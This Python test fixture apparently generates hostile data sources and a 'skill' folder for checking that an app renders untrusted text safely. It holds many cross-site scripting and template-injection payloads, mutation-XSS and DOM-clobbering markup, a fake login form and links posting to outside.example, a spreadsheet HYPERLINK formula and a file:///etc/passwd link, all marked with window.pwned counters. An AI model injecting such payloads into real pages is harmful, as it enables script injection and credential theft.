"""Texts that would do something if a page ran them, and sources that are full of them."""

from __future__ import annotations

import json
from pathlib import Path

import duckdb
import yaml
from tests.skillian.reports.comparisons import HOSTILE

# Each sets another number, so that a failure says which text was run.
VALUES = (
    *HOSTILE,
    "</script><script>window.pwned = 10</script>",
    "<svg/onload=window.pwned=11>",
    "javascript:window.pwned=12",
    "[x](javascript:window.pwned=13) ![y](http://outside.example/13.png)",
    "{{ constructor.constructor('window.pwned = 14')() }}",
    "${window.pwned = 15} `${window.pwned = 16}`",
    "' :onclick='window.pwned = 17' x='",
    '" :innerHTML="\'<img src=x onerror=window.pwned=18>\'" x="',
    "'); window.pwned = 19; ('",
    "<style>body { display: none }</style>",
    "<form action=http://outside.example/20><input autofocus onfocus=window.pwned=20></form>",
    "<iframe srcdoc='<script>parent.pwned = 21</script>'></iframe>",
    '=HYPERLINK("http://outside.example/22")',
)
PROPERTY = ":onGridReady"
"""A column's name that would make code of its values, where names become properties."""
CODE = "window.pwned = 30"
SOURCE = "<img src=x onerror=window.pwned=31>"
OTHER = "{{ constructor.constructor('window.pwned = 32')() }}"
TAGGED = "k|<i onmouseover=window.pwned=33>"
UNIT = "<u onclick=window.pwned=34>"
TITLE = '<script>window.pwned = 35</script> " :title="window.pwned = 36" {{ 7 * 7 }}'
DESCRIPTION = "<img src=http://outside.example/37 onerror=window.pwned=37> ![z](javascript:1)"

KNOWN = "Traps of quarterly postings"
"""What a skill's hostile knowledge is found by."""
CODE_STEP = (
    f"print({VALUES[0]!r}); import matplotlib.pyplot as plt; plt.title('$x$'); plt.plot([1])"
)

ANSWER = """\
<script>window.pwned = 50</script>
<img src=x onerror="window.pwned = 51"> <img src="http://outside.example/52.png">

# A heading {{ constructor.constructor('window.pwned = 53')() }}

**bold**, `code <b>not bold</b>`, ~~struck~~ <b onclick="window.pwned = 54">raw</b>

[plain](http://outside.example/55) [script](javascript:window.pwned=56)
[entity](&#106;avascript:window.pwned=57) [tab](java\tscript:window.pwned=58)
[data](data:text/html,<script>window.pwned=59</script>) [vb](vbscript:x) [file](file:///etc/passwd)
<javascript:window.pwned=60> <http://outside.example/61> [ref][r]
![picture](http://outside.example/62.png "a title") ![inline](data:image/svg+xml;base64,PHN2Zy8+)

[r]: javascript:window.pwned=63

| a | b |
|---|---|
| <img src=x onerror=window.pwned=64> | $(window.pwned = 65) |

```html
</code></pre><script>window.pwned = 66</script>
```

```mermaid
graph TD; A["<img src=x onerror=window.pwned=67>"] --> B; click A "javascript:window.pwned=68"
```

<style>.q-page { display: none }</style>
<div class="fixed inset-0 fullscreen" style="position: fixed; inset: 0">over all</div>
<form action="http://outside.example/69"><input name="key"><button>Log in</button></form>
<svg></p><style><a id="</style><img src=1 onerror=window.pwned=70>"></svg>
<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=71></style></mglyph></table>
<a href="javascript:window.pwned=72" id="app" name="socket">clobber</a>
The end of the answer.
"""


def write_hostile(folder: Path) -> Path:
    """Write two sources that differ for each of `VALUES`; returns the path of `sources.yaml`."""
    folder.mkdir(parents=True, exist_ok=True)
    with duckdb.connect(folder / "hostile.duckdb") as connection:
        connection.execute("CREATE TABLE ta (k VARCHAR, c VARCHAR, v DECIMAL(9, 2))")
        rows = [(value, CODE, number) for number, value in enumerate(VALUES, 1)]
        connection.executemany("INSERT INTO ta VALUES ($1, $2, $3)", rows)
        connection.execute("CREATE TABLE tb AS SELECT k, c, v + 5 AS v FROM ta")
    sources = folder / "sources.yaml"
    sources.write_text(yaml.safe_dump(_declared(), allow_unicode=True), encoding="utf-8")
    return sources


def _declared() -> dict[str, object]:
    def source(table: str) -> dict[str, object]:
        return {
            "connection": "main",
            "table": table,
            "description": DESCRIPTION,
            "dimensions": {
                TAGGED: {"column": "k", "description": DESCRIPTION},
                PROPERTY: {"column": "c"},
            },
            "measures": {
                "v": {"column": "v", "aggregation": "sum", "unit": UNIT},
                ":n": {"column": "k", "aggregation": "count"},
            },
        }

    return {
        "connections": {"main": "duckdb:///hostile.duckdb"},
        "sources": {SOURCE: source("ta"), OTHER: source("tb")},
        "comparison": {"default_align_on": [TAGGED, PROPERTY]},
    }


def write_skill(folder: Path) -> Path:
    """Write a skill whose texts and knowledge are hostile; returns its folder."""
    skill = folder / "hostile-skill"
    (skill / "knowledge").mkdir(parents=True)
    front = f"name: hostile-skill\ndescription: {json.dumps(DESCRIPTION)}"
    (skill / "SKILL.md").write_text(f"---\n{front}\n---\n{ANSWER}", encoding="utf-8")
    (skill / "knowledge" / "traps.md").write_text(f"# {KNOWN}\n\n{ANSWER}", encoding="utf-8")
    return skill
